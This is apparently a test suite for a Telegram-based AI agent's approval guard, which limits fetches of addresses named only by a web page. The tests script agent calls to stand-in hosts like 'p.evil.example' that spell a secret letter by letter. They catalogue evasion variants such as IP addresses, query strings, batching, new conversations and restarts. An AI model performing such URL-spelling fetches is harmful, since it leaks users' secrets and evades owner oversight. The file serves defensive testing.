import '../../support/internet-mock.ts';
import { afterAll, describe, expect, test } from 'vitest';
import { startServer } from '../../support/http.ts';
import { publishHost } from '../../support/internet.ts';
import type { ScriptedCall } from '../../support/model-script.ts';
import { waitFor } from '../../support/wait.ts';
import { chatOf, OWNER, startWorld, type World } from '../../support/world.ts';
import { batch, call, countQuestions, fetchUrl, fresh } from './play.ts';

/* A page lists an address for each letter, and the model spells a secret by those that it fetches: three are free in a day. */

const LIST = 'http://list.example/';
const LETTERS = ['p', 'i', 'n', 's'];
const codeOf = (letter: string): number => letter.codePointAt(0) ?? 0;

/** What was asked for at each host, but for the list. */
const reached: string[] = [];
let listed = '';
const site = startServer((request, response) => {
  const { host = '' } = request.headers;
  if (host === 'list.example') return void response.end(listed);
  reached.push(`${host}${request.url ?? ''}`);
  response.writeHead(host.startsWith('gone') ? 404 : 200, { 'content-type': 'text/plain' }).end('ok');
});
afterAll(async () => (await site)[Symbol.asyncDispose]());

type Steps = readonly (readonly ScriptedCall[])[];

/** Lets the model go these steps after the owner spoke, and says whether the owner was asked; a question is answered no. */
async function asked(world: World, steps: Steps, text = `What does ${LIST} say?`): Promise<boolean> {
  const questions = countQuestions(world);
  const left = [...steps];
  const end = `Done ${chatOf(world).length}.`;
  world.model.setHandler(() => {
    const calls = left.shift();
    return calls === undefined ? end : { calls };
  });
  world.telegram.userSays(OWNER, text);
  const isAsked = (): boolean => countQuestions(world) > questions;
  await waitFor(() => isAsked() || chatOf(world).some((said) => said.startsWith(end)), {
    what: 'a question or the end',
  });
  return isAsked();
}

interface Attack {
  /** The host of a letter, and its IP address where that is the name. @default below one name */
  readonly host?: (letter: string) => readonly [string, string?];
  /** @default / */
  readonly path?: (letter: string) => string;
  readonly play?: (world: World, addresses: readonly string[]) => Promise<boolean>;
}

const READ = [fetchUrl(LIST)];
const one = (address: string): Steps => [[fetchUrl(address)]];

const ATTACKS: Readonly<Record<string, Attack>> = {
  'names below one': {},
  'short names of a country': { host: (letter) => [`${letter}.ab1.cc`] },
  'names of their own': { host: (letter) => [`letter-${letter}.example`] },
  'addresses of IPv4': { host: (letter) => [`93.184.217.${codeOf(letter)}`, `93.184.217.${codeOf(letter)}`] },
  'addresses of IPv6': { host: (letter) => [`[2a01:4f8:1:2::${codeOf(letter)}]`, `2a01:4f8:1:2::${codeOf(letter)}`] },
  paths: { host: () => ['k.example'], path: (letter) => `/${letter}` },
  queries: { host: () => ['k.example'], path: (letter) => `/?k=${letter}` },
  'pages that are not there': { host: (letter) => [`gone-${letter}.example`] },
  'one page again and again': {
    host: () => ['gone.example'],
    play: (world, [address = '']) =>
      asked(world, [READ, ...[0, 1, 2, 3].map((offset) => [call('web_fetch', { url: address, offset })])]),
  },
  'all at once': { play: (world, addresses) => asked(world, [READ, addresses.map(fetchUrl)]) },
  'in a batch': { play: (world, addresses) => asked(world, [READ, [batch(...addresses.map(fetchUrl))]]) },
  'in two batches': {
    play: (world, addresses) =>
      asked(world, [
        READ,
        [batch(...addresses.slice(0, 2).map(fetchUrl))],
        [batch(...addresses.slice(2).map(fetchUrl))],
      ]),
  },
  'in several turns': {
    play: async (world, addresses) => {
      await asked(world, [READ]);
      for (const address of addresses) if (await asked(world, one(address), 'go on')) return true;
      return false;
    },
  },
  'in several conversations': {
    play: async (world, addresses) => {
      for (const address of addresses) {
        if (await asked(world, [READ, ...one(address)])) return true;
        await fresh(world);
      }
      return false;
    },
  },
  'after a summary took the place of the others': {
    play: async (world, addresses) => {
      for (const address of addresses) {
        const handoff = call('tape', { action: 'handoff', text: 'We read a list.' });
        if (await asked(world, [[handoff], READ, ...one(address)])) return true;
      }
      return false;
    },
  },
  'after a restart': {
    play: async (world, addresses) => {
      const last = addresses.at(-1) ?? '';
      if (await asked(world, [READ, ...addresses.slice(0, -1).flatMap(one)])) throw new Error('asked already');
      await world.restart();
      return await asked(world, one(last), 'go on');
    },
  },
};

async function play({
  host = (letter) => [`${letter}.evil.example`],
  path = () => '/',
  play: attack = (world, addresses) => asked(world, [READ, ...addresses.flatMap(one)]),
}: Attack): Promise<{ readonly isAsked: boolean; readonly reached: number }> {
  await using stack = new AsyncDisposableStack();
  const { port } = await site;
  reached.length = 0;
  stack.use(publishHost('list.example', port));
  const hosts = new Map(LETTERS.map(host).map(([name, address]) => [name, address]));
  for (const [name, address] of hosts) stack.use(publishHost(name, port, address));
  const addresses = LETTERS.map((letter) => `http://${host(letter)[0]}${path(letter)}`);
  listed = addresses.join(' ');
  const world = stack.use(await startWorld());
  const isAsked = await attack(world, addresses);
  return { isAsked, reached: reached.length };
}

describe('of the addresses that only a page named, the fourth of a day is asked about', () => {
  for (const [name, attack] of Object.entries(ATTACKS)) {
    test(name, async () => {
      const { isAsked, reached: count } = await play(attack);
      expect(isAsked).toBe(true);
      expect(count).toBe(3);
    });
  }
});

test('addresses that run side by side are in one question, whose yes counts for all', async () => {
  await using stack = new AsyncDisposableStack();
  const { port } = await site;
  reached.length = 0;
  const names = ['a', 'b', 'c', 'd', 'e', 'f'].map((letter) => `${letter}.evil.example`);
  for (const name of ['list.example', ...names]) stack.use(publishHost(name, port));
  const addresses = names.map((name) => `http://${name}/`);
  listed = addresses.join(' ');
  const world = stack.use(await startWorld());
  expect(await asked(world, [READ, addresses.map(fetchUrl)])).toBe(true);
  const shown = world.telegram.sentMessages.filter(({ visibleText }) => visibleText.includes('/approve '));
  expect(shown).toHaveLength(1);
  const { visibleText, messageId } = shown[0] ?? expect.fail();
  expect(visibleText).toContain('Fetch web pages?');
  expect(visibleText.match(/http:\/\/\w\.evil\.example\//gu)).toHaveLength(3);
  expect(reached).toHaveLength(3);
  const code = /\/approve (?<code>\w+)/u.exec(visibleText)?.groups?.['code'] ?? '';
  world.telegram.userPresses(OWNER, messageId, `approve:${code}`);
  await waitFor(() => reached.length === 6, { what: 'the other pages' });
});
